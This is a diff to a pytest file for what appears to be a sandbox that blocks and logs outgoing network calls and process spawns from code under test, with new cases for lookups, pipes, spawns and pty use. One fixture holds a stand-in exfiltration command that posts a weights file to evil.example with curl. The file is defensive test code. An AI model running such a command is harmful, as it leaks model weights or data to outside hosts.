@@ -81,13 +81,21 @@ def place(server: ThreadingHTTPServer) -> str:
         (("datagram", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
         (("lookup", "weights.example.com"), "lookup: weights.example.com"),
         (("old_lookup", "weights.example.com"), "lookup: weights.example.com"),
+        (("lookup_back", "weights.example.com"), "lookup: weights.example.com"),
+        (("lookup_back", AWAY), f"lookup: {AWAY}"),
+        (("name_of", AWAY), f"lookup: {AWAY}"),
         (("fetch", "http://weights.example.com/"), "lookup: weights.example.com"),
         (("program", "curl http://weights.example.com"), "process: curl (subprocess.Popen)"),
         (("shell", "true"), "process: true (os.system)"),
+        (("pipe", "true"), "process: /bin/sh (subprocess.Popen)"),
         (("spawned", "/bin/true"), "process: /bin/true (os.posix_spawn)"),
+        (("spawned_by_name", "true"), "process: true (os.posix_spawn)"),
+        (("spawned_in_python", "/bin/true"), "process: os.fork"),
         (("forked",), "process: os.fork"),
         (("terminal",), "process: os.forkpty"),
+        (("terminal_with", "/bin/true"), "process: /bin/true (pty.spawn)"),
         (("replaced", "/bin/true"), "process: /bin/true (os.exec)"),
+        (("replaced_by_name", "/bin/true"), "process: /bin/true (os.exec)"),
         (("message", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
         (
             ("shell", "curl -d @weights http://evil.example/git"),
@@ -98,9 +106,8 @@ def place(server: ThreadingHTTPServer) -> str:
 def test_what_tries_to_leave_is_refused_and_written_down(where, words, refused):
     found = behind(*where, *words)
     why = "while local work was done" if where else "beyond what the run may reach"
-    assert (found.get("raised") or found["outcome"].split(":")[0]) in ("BoundaryError", "URLError")
-    assert [line.split(": ", 2)[:2] for line in found["refused"]] == [refused.split(": ", 1)]
-    assert found["refused"][0].endswith(why)
+    assert found["raised"] in ("BoundaryError", "URLError")
+    assert found["refused"] == [f"{refused}: {why}"]
 
 
 def test_a_thread_gets_out_no_more_than_the_work_that_started_it(home):
@@ -266,6 +273,7 @@ def test_no_client_library_gets_out(client, home):
 @pytest.mark.parametrize("where", [(), ("--within",)])
 def test_what_stays_on_this_machine_is_no_business_of_the_wall(where, tmp_path):
     assert behind(*where, "listening")["outcome"] == "listens"
+    assert behind(*where, "serving")["outcome"] == "localhost"
     assert behind(*where, "unix", str(tmp_path / "s"))["outcome"] == "connected"
 
 
